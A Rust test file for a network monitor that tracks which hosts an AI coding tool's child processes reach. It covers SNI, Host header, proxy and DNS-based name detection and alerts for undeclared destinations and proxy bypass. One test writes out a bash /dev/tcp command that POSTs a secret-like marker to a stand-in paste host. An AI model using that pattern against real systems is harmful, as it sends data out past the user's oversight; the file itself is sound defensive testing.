//! Names that no DNS answer gives: what real clients say in their first bytes.
//!
//! In: curl and dig as children of a stand-in tool, plain servers that answer nothing of use.
//! Out: names with their sources, verdicts, alerts; and nothing else of what was sent.
//!
//! Each has the host for itself: what other tests resolve would back, or contradict, its names.

use std::fs;

use monitor_tests::event::Event;
use monitor_tests::program::{self, Program};
use monitor_tests::scene::{SERVER_V4, SERVER_V6, Scene};
use monitor_tests::telltale::{Telltale, recording};

/// Where curl is to go, whatever the name.
const PINNED: &str = "api.anthropic.com:443:203.0.113.10";

fn claude(scene: &Scene) -> Program {
    Program::native(scene.dir(), program::CLAUDE_NATIVE)
}

/// Claude Code runs curl, which may fail: nobody here speaks TLS.
fn curl(scene: &Scene, words: &str) {
    let command = format!("curl -s -k -m 2 {words}; exit 0");
    scene.run(&claude(scene), &["run", "bash", "-c", &command]);
}

/// The connection of a child to the IPv4 server.
#[track_caller]
fn opened(telltale: &Telltale<'_>, name: &str) -> Event {
    telltale.wait_for(&format!("connection to {name}"), |event: &Event| {
        event.action() == "connection-opened"
            && event.text("destination.ip") == SERVER_V4
            && event.text("destination.domain") == name
    })
}

#[test]
fn a_name_from_the_tls_hello_alone() {
    let scene = Scene::alone();
    let _servers = scene.serve_https();
    let telltale = scene.telltale().start();
    curl(
        &scene,
        &format!("--resolve {PINNED} https://api.anthropic.com/"),
    );
    opened(&telltale, "api.anthropic.com").expect(&[
        ("telltale.name.source", "sni"),
        ("telltale.verdict", "expected-unverified"),
        ("telltale.tool.id", "claude-code"),
    ]);
}

#[test]
fn a_name_from_plain_http() {
    let scene = Scene::alone();
    let _servers = scene.serve_https();
    let telltale = scene.telltale().start();
    let pinned = "paste.example:443:203.0.113.10";
    curl(
        &scene,
        &format!("--resolve {pinned} http://paste.example:443/"),
    );
    opened(&telltale, "paste.example").expect(&[
        ("telltale.name.source", "http-host"),
        ("telltale.verdict", "undeclared"),
    ]);
}

/// The name is true of another address, and this address is known under another name.
#[test]
fn a_false_name_is_told_with_both() {
    let scene = Scene::alone();
    let _servers = scene.serve_https();
    scene.dns.answer("api.anthropic.com", &[SERVER_V6]);
    scene.dns.answer("paste.example", &[SERVER_V4]);
    let telltale = scene.telltale().start();
    let words = [
        "connect",
        "api.anthropic.com:443",
        "connect",
        "paste.example:443",
    ];
    scene.run(&claude(&scene), &words);
    curl(
        &scene,
        &format!("--resolve {PINNED} https://api.anthropic.com/"),
    );
    let alert = telltale.wait_for("name-conflict", |event: &Event| {
        event.action() == "alert" && event.text("rule.name") == "name-conflict"
    });
    let whole = alert.get("telltale").to_string();
    for name in ["api.anthropic.com", "paste.example"] {
        assert!(whole.contains(name), "no {name} in {whole}");
    }
    opened(&telltale, "api.anthropic.com").expect(&[("telltale.verdict", "expected-unverified")]);
}

#[test]
fn a_target_behind_proxies() {
    let scene = Scene::alone();
    let _servers = scene.serve_https();
    let telltale = scene.telltale().start();
    let proxy = format!("{SERVER_V4}:443");
    curl(
        &scene,
        &format!("-x http://{proxy} https://api.anthropic.com/"),
    );
    opened(&telltale, "api.anthropic.com").expect(&[
        ("telltale.name.source", "http-connect"),
        ("telltale.proxied", "api.anthropic.com:443"),
    ]);
}

#[test]
fn a_tool_that_passes_by_the_proxy() {
    let scene = Scene::alone();
    let _servers = scene.serve_https();
    let telltale = scene
        .telltale()
        .config("[proxy]\nmandatory = [\"192.0.2.8:3128\"]\n")
        .start();
    curl(
        &scene,
        &format!("--resolve {PINNED} https://api.anthropic.com/"),
    );
    telltale.wait_for("proxy-bypass", |event: &Event| {
        event.action() == "alert" && event.text("rule.name") == "proxy-bypass"
    });
}

/// dig asks over TCP; what it learned explains another process's connection.
#[test]
fn a_name_from_dns_over_tcp() {
    let scene = Scene::alone();
    let _servers = scene.serve_https();
    scene.dns.answer("paste.example", &[SERVER_V4]);
    let telltale = scene.telltale().start();
    let command = "dig +tcp +tries=1 paste.example A";
    scene.run(&claude(&scene), &["run", "bash", "-c", command]);
    let pid = scene.run(&claude(&scene), &["connect", "203.0.113.10:443"]);
    telltale.wait_for_action(pid, "connection-opened").expect(&[
        ("destination.domain", "paste.example"),
        ("telltale.name.source", "dns-shared"),
    ]);
}

/// `getaddrinfo()` with two addresses connects UDP sockets to port 0 to choose among them.
#[test]
fn choosing_a_source_address_is_no_connection() {
    let scene = Scene::alone();
    let _servers = scene.serve_https();
    scene
        .dns
        .answer("api.anthropic.com", &[SERVER_V4, SERVER_V6]);
    let telltale = scene.telltale().start();
    let pid = scene.run(&claude(&scene), &["connect", "api.anthropic.com:443"]);
    telltale.wait_for_action(pid, "connection-opened");
    let events = telltale.stop();
    let is_probe = |event: &&Event| {
        event.pid() == Some(pid) && event.get("destination.port").as_u64() == Some(0)
    };
    assert_eq!(events.iter().filter(is_probe).count(), 0);
}

/// Whatever is sent stays where it was sent to.
#[test]
fn nothing_but_names_comes_out() {
    const MARK: &str = "zqxmarkerzqx";
    let scene = Scene::alone();
    let _servers = scene.serve_https();
    let telltale = scene.telltale().scope("all").record().start();
    // Path, field, password and body; the marker is put together so that no argument holds it.
    // In one piece: bash writes line by line, and whoever answers the first ends the sampling.
    let send = format!(
        "m=zqx; m=${{m}}marker${{m}}; exec 3<>/dev/tcp/{SERVER_V4}/443; \
         printf -v request \
         'POST /%s HTTP/1.1\\r\\nHost: paste.example\\r\\nAuthorization: %s\\r\\n\\r\\n%s' \
         $m $m $m; cat <<< \"$request\" >&3; exec 4<>/dev/udp/{SERVER_V4}/53; printf 'not dns at all %s' $m >&4; \
         exec 5<>/dev/udp/{SERVER_V4}/443; printf '%s' $m >&5; sleep 0.2"
    );
    scene.run(&claude(&scene), &["run", "bash", "-c", &send]);
    opened(&telltale, "paste.example");
    let metrics = telltale.get("/metrics").expect("a scrape").body;
    let status = telltale.get("/").expect("a page").body;
    let messages = format!("{}{}", telltale.process.stdout(), telltale.process.stderr());
    let events = telltale.stop();
    let hex: String = MARK.bytes().map(|byte| format!("{byte:02x}")).collect();
    let recorded = fs::read_to_string(recording(scene.dir())).unwrap();
    let log = format!("{events:?}");
    for (output, text) in [
        ("metrics", &metrics),
        ("page", &status),
        ("messages", &messages),
        ("recording", &recorded),
        ("events", &log),
    ] {
        assert!(!text.contains(MARK) && !text.contains(&hex), "in {output}");
    }
}
